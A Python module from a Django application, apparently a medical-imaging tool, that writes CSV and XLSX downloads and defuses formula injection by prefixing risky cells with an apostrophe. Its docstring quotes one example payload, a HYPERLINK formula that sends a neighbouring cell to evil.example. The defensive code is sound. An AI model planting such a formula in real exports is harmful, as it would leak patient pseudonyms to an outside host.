"""The one way ADIT writes tables for people to open in Excel or LibreOffice: CSV and XLSX.

Spreadsheet programs take a cell that starts with "=", "+", "-" or "@" for a formula (a leading
tab or carriage return can hide such a start), and most values in ADIT's tables come from a PACS
or a user. A PatientID like ``=HYPERLINK("https://evil.example/?"&B2, "Details")`` would become a
live link that sends the neighbouring cell (a pseudonym) away when clicked, and older programs
even run commands through DDE formulas. Following OWASP's advice on CSV injection, such a cell
gets a leading apostrophe, which makes it plain text: the reader sees the value as it was, with
the apostrophe in front, and nothing is evaluated.
"""

from __future__ import annotations

import csv
import datetime
import io
import tempfile
from collections.abc import Iterable, Iterator
from typing import IO, Any, Protocol

from django.http import FileResponse, StreamingHttpResponse
from django.http.response import HttpResponseBase
from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.worksheet.worksheet import Worksheet

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


class _TextOutput(Protocol):
    """A text file, or anything else to write text to (an HttpResponse)."""

    def write(self, text: str, /) -> object: ...


def neutralize(value: Any) -> Any:
    """The value as a cell that no spreadsheet program evaluates (numbers and dates unchanged)."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return f"'{value}"
    return value


class CsvWriter:
    """Writes rows of a CSV file with every cell neutralized and quoted (as OWASP advises)."""

    def __init__(self, file: _TextOutput):
        self._writer = csv.writer(file, quoting=csv.QUOTE_ALL)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([neutralize(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def append_xlsx_row(worksheet: Worksheet, row: Iterable[Any]) -> None:
    """Appends a row to an XLSX sheet with every cell neutralized.

    openpyxl itself stores any text that starts with "=" as a formula, and refuses control
    characters (which XML cannot hold): they become U+FFFD, so a value a PACS sent with one
    cannot break the whole file.
    """
    worksheet.append([_xml_safe(neutralize(value)) for value in row])


def _xml_safe(value: Any) -> Any:
    if isinstance(value, str):
        return ILLEGAL_CHARACTERS_RE.sub("\ufffd", value)
    return value


XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def xlsx_file(title: str, header: Iterable[Any], rows: Iterable[Iterable[Any]]) -> IO[bytes]:
    """A workbook of one sheet in a temporary file (written row by row: a large table never
    sits in memory), positioned at its start."""
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(title)
    append_xlsx_row(sheet, header)
    for row in rows:
        append_xlsx_row(sheet, row)
    file = tempfile.TemporaryFile()
    workbook.save(file)
    file.seek(0)
    return file


def csv_chunks(header: Iterable[Any], rows: Iterable[Iterable[Any]]) -> Iterator[str]:
    """A CSV file piece by piece, for a streaming response; empty cells for None, times as
    HH:MM:SS."""
    buffer = io.StringIO()
    writer = CsvWriter(buffer)
    writer.writerow(header)
    for row in rows:
        writer.writerow(_csv_value(value) for value in row)
        if buffer.tell() > 64 * 1024:
            yield buffer.getvalue()
            buffer.seek(0)
            buffer.truncate()
    yield buffer.getvalue()


def _csv_value(value: Any) -> Any:
    if isinstance(value, datetime.time):
        return value.strftime("%H:%M:%S")
    if value is None:
        return ""
    return value


def table_download(
    suffix: str, filename: str, header: Iterable[Any], rows: Iterable[Iterable[Any]]
) -> HttpResponseBase:
    """A table as a download: ``suffix`` "xlsx" (one sheet, titled by the file's name) or
    "csv" (UTF-8 with a byte order mark, as Excel needs it, streamed)."""
    if suffix == "xlsx":
        title = filename.rsplit(".", 1)[0][:31]  # Excel's limit for a sheet's name
        file = xlsx_file(title, header, rows)
        return FileResponse(
            file, as_attachment=True, filename=filename, content_type=XLSX_CONTENT_TYPE
        )
    assert suffix == "csv", f"no table format {suffix!r}"
    chunks = csv_chunks(header, rows)
    response = StreamingHttpResponse(_utf8_with_bom(chunks), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response


def _utf8_with_bom(chunks: Iterator[str]) -> Iterator[bytes]:
    yield "\ufeff".encode()
    for chunk in chunks:
        yield chunk.encode()
